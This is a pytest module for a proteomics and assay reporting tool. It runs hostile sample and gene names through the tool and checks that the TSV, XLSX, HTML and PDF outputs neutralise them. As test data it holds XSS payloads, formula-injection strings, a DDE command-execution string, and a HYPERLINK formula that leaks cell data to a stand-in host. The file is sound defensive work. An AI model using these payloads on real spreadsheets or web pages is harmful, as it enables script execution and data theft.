"""Hostile content from input files (formulas, script payloads, control and bidi characters, very long
names) through every command that writes tables or pages: no formula in any TSV or XLSX, even as
LibreOffice opens it; no live markup in the HTML."""

from __future__ import annotations

import csv
import os
import re
import shutil
import subprocess
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from conftest import run_main

from secretome import datasets
from secretome.tables import FORMULA_TRIGGERS, is_formula_like, write_xlsx
from secretome.textsafety import has_invisible, make_visible

SCRIPT = "<script>alert('x')</script>"
IMAGE = "<img src=x onerror=alert(1)>"
ATTRIBUTE = '"><svg onload=alert(2)>'
CLOSING = "</script><script>alert(3)</script>"
MARK = "<svg/onload=window.__pwned=1>"
LIVE_MARKUP = [SCRIPT, IMAGE, ATTRIBUTE, CLOSING, MARK, "<svg onload=alert(2)>", "<script>alert(3)</script>", "<script>alert(5)</script>"]
BIDI = "lot\u202eA\u202c \u2066B\u2069 \u202a\u202b\u202d\u2067\u2068end"
CONTROL = "bell\x07esc\x1b zw\u200b bom\ufeff"
LONG = "L" * 10_000
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    SCRIPT,
    IMAGE,
    ATTRIBUTE,
    CLOSING,
    MARK,
    "javascript:alert(4)",
    "{{7*7}}${7*7}",
    BIDI,
    CONTROL,
    LONG,
]
SAMPLE_NAMES = {  # demo sample -> hostile sample name (column headers of the table, rows of the sheet)
    "CM_A1": '=HYPERLINK("http://evil.example","A1")',
    "CM_A2": "<img src=x onerror=alert('A2')>",
    "CM_A3": "CM_A3\u202eevil\u202c",
    "CM_A4": '@SUM(1+1)<a href="http://evil.example/">A4</a>',  # plotly.js draws <a href> in figure text
    "CM_A5": "S" * 10_000,
    "CM_A6": '"><svg onload=alert(2)>',
    "CM_B1": "</script><script>alert(3)</script>",
    "CM_B2": "bell\x07B2\u2066",
}
GROUPS = {"lot_A": "=1+1 \u202eA\u202c<script>alert(5)</script>", "lot_B": "@B \u2067" + "G" * 300}
"""Hostile names of the two lots in a sample-sheet column of their own (``batch``, for --group and the PDF)."""


def _hostile_plate(path: Path) -> Path:
    """An immunoassay long table (standards and samples) whose analyte and sample names are payloads."""
    from secretome.assays.curves import logistic

    truth = {"A": 30.0, "B": 20000.0, "xmid": np.log(400.0), "scal": 1.0, "g": 0.8}
    levels = 5000 / 2.5 ** np.arange(8)
    analytes = ["IL-6", SCRIPT, BIDI, "=1+1", MARK]
    samples = {IMAGE: 300.0, "=HYPERLINK(\"http://x\")": 90.0, CONTROL: 2000.0, LONG: 50.0}
    rows = []
    for k, analyte in enumerate(analytes):
        for level, x in enumerate(levels, start=1):
            for rep in range(2):
                rows.append({"plate": "1", "well": f"{'AB'[rep]}{level + 8 * k}", "sample": f"Standard{level}",
                             "analyte": analyte, "signal": logistic(np.log(x), truth) * (1 + 0.01 * (-1) ** rep),
                             "expected": x, "unit": "pg/mL"})
        for i, (sample, conc) in enumerate(samples.items()):
            rows.append({"plate": "1", "well": f"{'CDEFGH'[i]}{k + 1}", "sample": sample, "analyte": analyte,
                         "signal": logistic(np.log(conc), truth), "expected": "", "unit": "pg/mL", "dilution": 1})
    pd.DataFrame(rows).to_csv(path, index=False)
    return path


def _hostile_trial(root: Path) -> dict[str, Path]:
    """The demo trial with hostile lot names (treatments and lot composition alike) and dose text."""
    from secretome.clinical_datasets import write_demo_trial

    paths = write_demo_trial(root)
    names = {"L01": SCRIPT, "L02": BIDI, "L03": "=1+1", "L04": IMAGE, "L05": LONG, "VEH-01": '=HYPERLINK("http://x")'}
    treatments = pd.read_csv(paths["treatments"], dtype=str, keep_default_na=False)
    treatments["lot"] = treatments["lot"].replace(names)
    treatments["dose"] = CONTROL
    treatments.to_csv(paths["treatments"], index=False)
    composition = paths["lots"] / "composition.tsv"
    lots = pd.read_csv(composition, sep="\t", dtype=str, keep_default_na=False)
    lots["lot"] = lots["lot"].replace(names)
    lots.to_csv(composition, sep="\t", index=False)
    return paths


@pytest.fixture(scope="module")
def hostile_inputs(tmp_path_factory) -> dict[str, Path]:
    return write_hostile_inputs(tmp_path_factory.mktemp("hostile_content"))


def write_hostile_inputs(root: Path) -> dict[str, Path]:
    """The demo dataset with payloads in gene, protein and sample names, headers and sample-sheet columns;
    an immunoassay plate and a clinical trial with payloads in their names (all written into ``root``)."""
    paths = datasets.demo_paths()
    table = pd.read_csv(paths["table"], sep="\t", dtype=str, keep_default_na=False)
    for i, payload in enumerate(PAYLOADS):
        table.loc[i, "Gene names"] = payload
        table.loc[len(PAYLOADS) + i, "Protein names"] = payload
        table.loc[2 * len(PAYLOADS) + i, "Fasta headers"] = payload
    table.columns = [_renamed(column) for column in table.columns]
    table.to_csv(root / "proteinGroups.txt", sep="\t", index=False)
    sheet = pd.read_csv(paths["samples"], sep="\t", dtype=str, keep_default_na=False)
    sheet["batch"] = sheet["lot"].map(GROUPS)
    sheet["sample"] = sheet["sample"].map(lambda name: SAMPLE_NAMES.get(name, name))
    sheet["donor"] = [PAYLOADS[i % len(PAYLOADS)] for i in range(len(sheet))]
    sheet.to_csv(root / "samples.tsv", sep="\t", index=False)
    return {"root": root, "table": root / "proteinGroups.txt", "sheet": root / "samples.tsv",
            "plate": _hostile_plate(root / "plate.csv"), "trial": _hostile_trial(root / "trial")}


def _renamed(column: str) -> str:
    for demo, hostile in SAMPLE_NAMES.items():
        if column.endswith(" " + demo):
            return column[: -len(demo)] + hostile
    return column


@pytest.fixture(scope="module")
def outputs(hostile_inputs, tmp_path_factory) -> dict[str, Path]:
    """Every command that writes a table or a page, run once on the hostile inputs."""
    monkeypatch = pytest.MonkeyPatch()
    capsys = _Silent()
    root = tmp_path_factory.mktemp("hostile_outputs")
    table, sheet, trial = hostile_inputs["table"], hostile_inputs["sheet"], hostile_inputs["trial"]
    runs = {
        "profile": ["profile", table, "--samples", sheet, "--group", "batch", "--xlsx", "--out", root / "profile"],
        "compare": ["compare", table, "--samples", sheet, "--design", "~ lot", "--contrast", "lot_B-lot_A",
                    "--out", root / "compare"],
        "comparability": ["comparability", table, "--samples", sheet, "--reference", "lot_A", "--out", root / "lots"],
        "annotate": ["annotate", table, "--out", root / "annotation.tsv"],
        "assay": ["assay", hostile_inputs["plate"], "--model", "5pl", "--out", root / "assay"],
        "outcomes": ["outcomes", trial["records"], "--dictionary", trial["dictionary"], "--events", trial["events"],
                     "--treatments", trial["treatments"], "--lots", trial["lots"], "--reference-arm", "vehicle",
                     "--min-cell", "1", "--out", root / "outcomes"],
    }
    for name, args in runs.items():
        code, _, err = run_main(monkeypatch, capsys, *args)
        assert code == 0, f"{name}: {err}"
    monkeypatch.undo()
    xlsx = root / "tables.xlsx"
    write_xlsx({"proteins": pd.read_csv(root / "profile" / "proteins.tsv", sep="\t", dtype=str),
                "payloads": pd.DataFrame({"text": PAYLOADS, "number": np.arange(len(PAYLOADS)) - 3.5})}, xlsx)
    return {"root": root, "xlsx": xlsx}


class _Silent:
    """A stand-in for pytest's capsys in a module-scoped fixture (run_main only reads it back)."""

    class _Captured:
        out = err = ""

    def readouterr(self) -> "_Silent._Captured":
        return self._Captured()


def _tsv_files(root: Path) -> list[Path]:
    return sorted(root.rglob("*.tsv"))


def test_every_output_table_holds_no_formula_like_cell_and_no_invisible_character(outputs):
    files = _tsv_files(outputs["root"])
    assert {p.name for p in files} >= {"proteins.tsv", "samples.tsv", "differential_lot_B-lot_A.tsv",
                                       "comparability_factors.tsv", "annotation.tsv", "concentrations.tsv", "scores.tsv"}
    found = []
    for path in files:
        with open(path, encoding="utf-8", newline="") as handle:
            for row_number, row in enumerate(csv.reader(handle, delimiter="\t"), start=1):
                found += [f"{path.relative_to(outputs['root'])}:{row_number}: {cell[:40]!r}" for cell in row
                          if is_formula_like(cell) or has_invisible(cell)]
    assert not found, "\n".join(found[:20])


def test_the_payloads_reach_the_tables_neutralised_not_lost(outputs):
    proteins = (outputs["root"] / "profile" / "proteins.tsv").read_text(encoding="utf-8")
    samples = (outputs["root"] / "profile" / "samples.tsv").read_text(encoding="utf-8")
    contrast = (outputs["root"] / "compare" / "differential_lot_B-lot_A.tsv").read_text(encoding="utf-8")
    assert "'=1+1" in proteins and "'@SUM(1+1)" in proteins and LONG in proteins
    assert "lot[U+202E]A[U+202C] [U+2066]B[U+2069]" in proteins and "bell[U+0007]esc[U+001B] zw[U+200B]" in proteins
    assert "CM_A3[U+202E]evil[U+202C]" in samples and "S" * 10_000 in samples and "'@SUM(1+1)" in samples
    # compare annotates first (as profile does): its gene column holds the knowledge base's symbols, and any
    # input text that does reach it is neutralised
    assert "=1+1" not in contrast.replace("'=1+1", "") and "=HYPERLINK(" not in contrast.replace("'=HYPERLINK(", "")
    assert "\tORM1\t" in contrast
    concentrations = (outputs["root"] / "assay" / "concentrations.tsv").read_text(encoding="utf-8")
    assert "'=1+1" in concentrations and "lot[U+202E]A" in concentrations and SCRIPT in concentrations


def _pages(root: Path) -> dict[str, str]:
    """Every HTML page under ``root`` (relative path -> text), the plotly.js bundle cut out (it is the
    library's code, not input text)."""
    from plotly.offline import get_plotlyjs

    bundle = get_plotlyjs()
    return {p.relative_to(root).as_posix(): p.read_text(encoding="utf-8").replace(bundle, "") for p in sorted(root.rglob("*.html"))}


def test_no_payload_is_live_markup_or_hidden_bidi_in_any_page(outputs):
    pages = _pages(outputs["root"])
    assert set(pages) >= {"profile/report.html", "compare/report.html", "lots/report.html", "assay/report.html",
                          "outcomes/report.html"}
    for name, html in pages.items():
        live = [payload for payload in LIVE_MARKUP if payload in html]
        assert not live, f"{name}: {live}"
        hidden = sorted({f"U+{ord(c):04X}" for c in html if has_invisible(c)})
        assert not hidden, f"{name}: {hidden}"
    shown = {"profile/report.html": "CM_A3[U+202E]evil[U+202C]", "assay/report.html": "lot[U+202E]A[U+202C]",
             "outcomes/report.html": "lot[U+202E]A[U+202C]"}
    for name, text in shown.items():
        assert text in pages[name], f"{name} does not show the bidi payload as {text}"


def test_the_xlsx_workbooks_hold_text_cells_only_for_text_and_nothing_invisible(outputs):
    from openpyxl import load_workbook

    for path in (outputs["xlsx"], outputs["root"] / "profile" / "secretome.xlsx"):
        workbook = load_workbook(path)
        formulas = [(sheet.title, cell.coordinate) for sheet in workbook for row in sheet.iter_rows() for cell in row
                    if cell.data_type == "f" or (isinstance(cell.value, str) and has_invisible(cell.value))]
        assert not formulas, f"{path.name}: {formulas[:10]}"
    texts = [cell.value for cell in load_workbook(outputs["xlsx"])["payloads"]["A"][1:]]
    plain = [i for i, payload in enumerate(PAYLOADS) if not has_invisible(payload)]
    assert [texts[i] for i in plain] == [PAYLOADS[i] for i in plain]  # kept exactly, as text cells
    assert texts[PAYLOADS.index(BIDI)] == "lot[U+202E]A[U+202C] [U+2066]B[U+2069] [U+202A][U+202B][U+202D][U+2067][U+2068]end"


def _soffice() -> str:
    path = shutil.which("soffice") or shutil.which("libreoffice")
    if path is None:
        pytest.skip("needs LibreOffice (Debian libreoffice-calc-nogui) to open the outputs as a spreadsheet user would")
    return path


def _convert(soffice: str, files: list[Path], out: Path, profile: Path, infilter: str | None) -> None:
    command = [soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore"]
    if infilter:
        command.append(f"--infilter={infilter}")
    command += ["--convert-to", "fods", "--outdir", str(out), *map(str, files)]
    run = subprocess.run(command, capture_output=True, text=True, timeout=300, env={**os.environ, "HOME": str(profile)})
    assert run.returncode == 0, run.stderr


def test_libreoffice_finds_no_formula_in_any_output(outputs, tmp_path):
    soffice = _soffice()
    converted = tmp_path / "converted"
    tables = _tsv_files(outputs["root"])
    _convert(soffice, tables, converted, tmp_path / "lo-profile", "Text - txt - csv (StarCalc):9,34,76,1")
    _convert(soffice, [outputs["xlsx"], outputs["root"] / "profile" / "secretome.xlsx"], converted, tmp_path / "lo-profile", None)
    documents = sorted(converted.glob("*.fods"))
    assert len(documents) == len({p.stem for p in tables} | {"tables", "secretome"})
    live = {doc.name: formulas for doc in documents if (formulas := _formulas(doc))}
    assert not live, f"LibreOffice evaluated formulas in {live}"


def _formulas(document: Path) -> list[str]:
    """The formulas of a flat ODF spreadsheet, but for the booleans LibreOffice itself writes as formulas
    (``of:=TRUE()``, from true/false cells of an XLSX)."""
    found = re.findall(r'table:formula="([^"]*)"', document.read_text(encoding="utf-8"))
    return [formula for formula in found if formula not in ("of:=TRUE()", "of:=FALSE()")]


def test_the_libreoffice_check_would_see_a_formula(tmp_path):
    """The check above can fail: an unneutralised table does hold a live formula for LibreOffice."""
    soffice = _soffice()
    raw = tmp_path / "raw.tsv"
    raw.write_text("gene\tvalue\n=1+1\t2\n", encoding="utf-8")
    _convert(soffice, [raw], tmp_path / "out", tmp_path / "lo-profile", "Text - txt - csv (StarCalc):9,34,76,1")
    assert _formulas(tmp_path / "out" / "raw.fods") == ["of:=1+1"]


def test_trigger_characters_are_the_owasp_set():
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.fixture(scope="module")
def certificates(hostile_inputs, tmp_path_factory) -> Path:
    """profile --pdf on the hostile inputs, grouped by the hostile lot names (one certificate per group)."""
    from test_report import _browser_available

    reason = _browser_available()
    if reason:
        pytest.skip(reason)
    monkeypatch = pytest.MonkeyPatch()
    out = tmp_path_factory.mktemp("hostile_pdf") / "profile"
    code, _, err = run_main(monkeypatch, _Silent(), "profile", hostile_inputs["table"], "--samples", hostile_inputs["sheet"],
                            "--group", "batch", "--pdf", "--out", out)
    monkeypatch.undo()
    assert code == 0, err
    return out


@pytest.mark.browser
def test_the_pdf_certificates_show_the_hostile_names_as_plain_visible_text(certificates):
    pypdf = pytest.importorskip("pypdf", reason="needs pypdf to read the PDF text")
    pdfs = sorted(certificates.glob("certificate_*.pdf"))
    assert len(pdfs) == len(GROUPS)
    for path in pdfs:
        reader = pypdf.PdfReader(path)
        assert not _active_parts(reader), f"{path.name}: {_active_parts(reader)}"
        text = " ".join(page.extract_text() for page in reader.pages)
        hidden = sorted({f"U+{ord(c):04X}" for c in text if has_invisible(c) and c not in "\n"})
        assert not hidden, f"{path.name}: {hidden}"
        flat = re.sub(r"\s+", "", text)
        shown = [level for level in GROUPS.values() if re.sub(r"\s+", "", make_visible(level)) in flat]
        assert shown, f"{path.name} does not show its group's name, bidi controls made visible"


def _active_parts(reader) -> list[str]:
    """What of a PDF could act when opened: document or page actions, scripts, form fields, annotations
    that run, launch or link anything."""
    root = reader.trailer["/Root"]
    found = [key for key in ("/OpenAction", "/AA", "/AcroForm") if key in root]
    if "/Names" in root and "/JavaScript" in root["/Names"]:
        found.append("/Names/JavaScript")
    for number, page in enumerate(reader.pages):
        found += [f"page {number} /AA"] if "/AA" in page else []
        for annotation in page.get("/Annots") or []:
            annotation = annotation.get_object()
            action = annotation.get("/A")
            kind = action.get_object().get("/S") if action is not None else None
            if kind in ("/JavaScript", "/Launch", "/URI", "/SubmitForm", "/ImportData") or annotation.get("/Subtype") == "/Widget":
                found.append(f"page {number} annotation {annotation.get('/Subtype')} {kind}")
    return found


def _browse(pages: list[Path]) -> dict[str, list[str]]:
    """Open each page in headless Chromium (file://, so no CSP helps), let its scripts and figures run,
    hover every figure, and return per page what an injected script would have caused: dialogs, page
    errors, console errors, requests off the page, and a ``window.__pwned`` mark."""
    from playwright.sync_api import sync_playwright
    from test_report import CHROMIUM, CHROMIUM_ARGS

    found: dict[str, list[str]] = {}
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        for path in pages:
            problems: list[str] = []
            page = browser.new_page(viewport={"width": 1300, "height": 900})
            page.on("dialog", lambda dialog, problems=problems: (problems.append(f"dialog: {dialog.message}"), dialog.dismiss()))
            page.on("pageerror", lambda error, problems=problems: problems.append(f"page error: {error}"))
            page.on("console", lambda m, problems=problems: problems.append(f"console: {m.text}") if m.type == "error" else None)
            page.on("request", lambda r, problems=problems: problems.append(f"request: {r.url}")
                    if not r.url.startswith(("file:", "data:", "blob:", "about:")) else None)
            page.goto(path.resolve().as_uri())
            wanted = page.eval_on_selector_all("script[data-figure], script[id$='-data']", "nodes => nodes.length")
            page.wait_for_function(
                "n => document.querySelectorAll('.js-plotly-plot .main-svg').length >= n", arg=min(wanted, 1), timeout=60000)
            for plot in page.query_selector_all(".js-plotly-plot")[:12]:
                plot.scroll_into_view_if_needed()
                plot.hover()
            page.wait_for_timeout(300)
            links = page.evaluate("() => Array.from(document.querySelectorAll('.js-plotly-plot .main-svg a'))"
                                  ".map(a => a.getAttribute('href') || a.getAttribute('xlink:href')).filter(Boolean)")
            problems.extend(f"link in a figure: {link}" for link in links)
            if page.evaluate("() => window.__pwned !== undefined"):
                problems.append("window.__pwned was set")
            found[f"{path.parent.name}/{path.name}"] = problems
            page.close()
        browser.close()
    return found


@pytest.mark.browser
def test_no_injected_script_runs_in_chromium_on_any_page(outputs, tmp_path):
    from test_report import _browser_available

    reason = _browser_available()
    if reason:
        pytest.skip(reason)
    pages = sorted(outputs["root"].rglob("*.html"))
    assert len(pages) >= 5
    results = _browse(pages)
    assert all(problems == [] for problems in results.values()), results


@pytest.mark.browser
def test_no_injected_script_runs_in_the_certificate_page(certificates, tmp_path):
    import json

    from secretome.report.certificate import certificate_html

    summary = json.loads((certificates / "profile.json").read_text(encoding="utf-8"))
    pages = []
    for i, card in enumerate(summary["overview"]):
        page = tmp_path / f"certificate{i}.html"
        html = certificate_html(summary, card["level"])
        assert not [payload for payload in LIVE_MARKUP if payload in html]
        page.write_text(html, encoding="utf-8")
        pages.append(page)
    results = _browse(pages)
    assert all(problems == [] for problems in results.values()), results


@pytest.mark.browser
def test_the_chromium_check_would_see_an_injected_script(tmp_path):
    """The browser checks above can fail: a page with the payloads unescaped is caught."""
    from test_report import _browser_available

    reason = _browser_available()
    if reason:
        pytest.skip(reason)
    page = tmp_path / "raw.html"
    page.write_text(f"<!DOCTYPE html><html><body><p>{IMAGE}</p><p>{MARK}</p></body></html>", encoding="utf-8")
    problems = _browse([page])[f"{tmp_path.name}/raw.html"]
    assert "dialog: 1" in problems and "window.__pwned was set" in problems
